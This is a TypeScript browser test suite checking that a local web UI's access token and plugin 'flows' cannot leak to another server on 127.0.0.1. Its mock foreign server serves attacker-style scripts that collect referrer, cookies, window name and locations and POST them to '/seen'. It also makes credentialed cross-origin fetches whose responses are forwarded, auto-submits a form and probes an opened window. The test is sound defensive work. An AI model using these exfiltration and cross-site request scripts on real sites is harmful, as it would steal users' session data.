import { once } from 'node:events'
import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import * as assert from 'uvu/assert'
import { ask } from '../src/ui/uiStage.ts'
import { browserSuite } from './world/browserSuite.ts'
import { onPage, type PageStage } from './world/onPage.ts'

/** How a browser that has the page open is led to a server of somebody else. */
interface Way {
  title: string
  /** Arrives at `/end` there last. */
  go(page: Page, origins: { ours: string; theirs: string }): Promise<unknown>
}

const ways: readonly Way[] = [
  { title: 'an address that is typed', go: (page, { theirs }) => page.goto(`${theirs}/end`) },
  {
    title: 'a link on the page itself',
    go: (page, { theirs }) =>
      page.evaluate((to) => {
        const link = document.createElement('a')
        link.href = to
        link.referrerPolicy = 'unsafe-url'
        document.body.append(link)
        link.click()
      }, `${theirs}/end`),
  },
  { title: 'a redirect', go: (page, { theirs }) => page.goto(`${theirs}/redirect?to=/end`) },
  {
    title: 'a redirect through the page',
    // The requests to our own server with a foreign page's path, query and fragment change nothing.
    go: async (page, { ours, theirs }) => {
      await page.goto(`${theirs}/redirect?to=${encodeURIComponent(`${ours}/?to=${theirs}/end`)}`)
      await page.goto(`${theirs}/end`)
    },
  },
  {
    title: 'a picture, a script, a frame and a fetch of a foreign page',
    go: async (page, { ours, theirs }) =>
      (await page.context().newPage()).goto(
        `${theirs}/embeds?ours=${encodeURIComponent(ours)}&to=/end`,
      ),
  },
  { title: 'a form', go: (page, { theirs }) => page.goto(`${theirs}/form?to=/end`) },
  {
    title: 'a window that the page opens',
    go: async (page, { theirs }) => {
      const opened = page.context().waitForEvent('page')
      await page.evaluate((to) => void window.open(to, 'named'), `${theirs}/end`)
      await (await opened).waitForLoadState()
    },
  },
  {
    title: 'a window that a foreign page opens, with the page in it',
    go: async (page, { ours, theirs }) => {
      await page.goto(`${theirs}/opens?ours=${encodeURIComponent(ours)}&to=/end`)
    },
  },
]

browserSuite('page :: another server on 127.0.0.1', (test, browser) => {
  for (const { title, go } of ways) {
    test(`gets nothing with which flows can be read or driven :: ${title}`, () =>
      onPage(browser(), async (stage) => {
        await onForeignServer(async ({ origin, received, ended }) => {
          await go(stage.page, { ours: stage.origin, theirs: origin })
          await ended
          assert.ok(received.length > 0)
          assert.equal(await whatOpens(stage, received), [])
        })
        const changes = stage.embedded.requests().filter(({ method }) => method !== 'GET')
        assert.equal(changes, [])
      }))
  }

  test('every request of the page itself has the token in a header, and nowhere else', () =>
    onPage(browser(), async ({ page, install, flow, ui }) => {
      const token = new URL(ui.url).hash.replace('#token=', '')
      assert.ok(token.length > 20)
      const asked: { url: string; headers: Record<string, string> }[] = []
      page.on('request', (request) => {
        asked.push({ url: request.url(), headers: request.headers() })
      })
      await page.reload()
      await install('vieux/sshfs:latest')
      await flow.getByRole('button', { name: /^Grant/ }).waitFor()
      const data = asked.filter(({ url }) => /\/(flows|about|changes|plugins)/.test(url))
      assert.ok(data.length >= 4)
      for (const { url, headers } of asked) {
        assert.not.match(url, token)
        const { authorization, ...others } = headers
        assert.not.match(JSON.stringify(others), token)
        if (data.some((each) => each.url === url)) assert.is(authorization, `Bearer ${token}`)
      }
      assert.equal(await page.context().cookies(), [])
      const left = await page.evaluate(() => [location.href, document.cookie, window.name])
      assert.not.match(left.join(' '), token)
      assert.is(await page.evaluate(() => localStorage.length), 0)
    }))
})

interface Received {
  method: string | undefined
  url: string | undefined
  headers: IncomingHttpHeaders
  body: string
}

/** A server of another user of the machine, which writes down all that it is sent. */
async function onForeignServer(
  act: (foreign: { origin: string; received: Received[]; ended: Promise<void> }) => Promise<void>,
): Promise<void> {
  const received: Received[] = []
  let end = () => {}
  const ended = new Promise<void>((resolve) => {
    end = resolve
  })
  const server = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request) body += String(chunk)
    const { method, url, headers } = request
    received.push({ method, url, headers, body })
    const { pathname, searchParams } = new URL(url ?? '/', 'http://foreign')
    const to = searchParams.get('to') ?? ''
    const ours = searchParams.get('ours') ?? ''
    if (pathname === '/redirect') return void response.writeHead(302, { Location: to }).end()
    // All that a script there can see of how it was reached is sent on.
    const seen = `<script>
      const said = [document.referrer, document.cookie, name, location.href]
      try { said.push(opener && opener.location.href) } catch {}
      fetch('/seen', { method: 'POST', body: JSON.stringify(said) })
    </script>`
    const pages: Record<string, string> = {
      '/embeds': `<img src="${ours}/flows"><img src="/x.png"><script src="${ours}/page.js"></script>
        <iframe src="${ours}/"></iframe>
        <script>
          for (const credentials of ['include', 'omit']) {
            fetch('${ours}/flows', { credentials }).then((answer) => answer.text()).then((text) =>
              fetch('/seen', { method: 'POST', body: text }), () => {})
          }
          setTimeout(() => { location.href = '${to}' }, 500)
        </script>`,
      '/form': `<form method="post" action="${to}"></form><script>document.forms[0].submit()</script>`,
      '/opens': `<script>
          const opened = open('${ours}/', 'named')
          setTimeout(() => {
            let seen = ''
            try { seen = opened.location.href + opened.sessionStorage.length } catch {}
            fetch('/seen', { method: 'POST', body: seen })
            location.href = '${to}'
          }, 500)
        </script>`,
    }
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(pages[pathname] ?? seen)
    if (pathname === '/seen' && received.some((each) => each.url?.startsWith('/end'))) end()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    const { port } = server.address() as AddressInfo
    await act({ origin: `http://127.0.0.1:${port}`, received, ended })
  } finally {
    server.close()
    server.closeAllConnections()
  }
}

/** The parts of it that open the flows, sent in any of the ways of a browser or a program. */
async function whatOpens({ origin, ui }: PageStage, received: readonly Received[]) {
  const token = new URL(ui.url).hash.replace('#token=', '')
  const opening: string[] = []
  for (const { url = '', headers, body } of received) {
    const { cookie = '', authorization = '' } = headers
    const all = JSON.stringify([url, headers, body])
    if (token !== '' && all.includes(token)) opening.push(`the token in ${all}`)
    const sent = Object.entries({ cookie, authorization }).filter(([, value]) => value !== '')
    const { status } = await ask(`${origin}/flows`, { headers: Object.fromEntries(sent) })
    if (status === 200) opening.push(all)
  }
  return opening
}
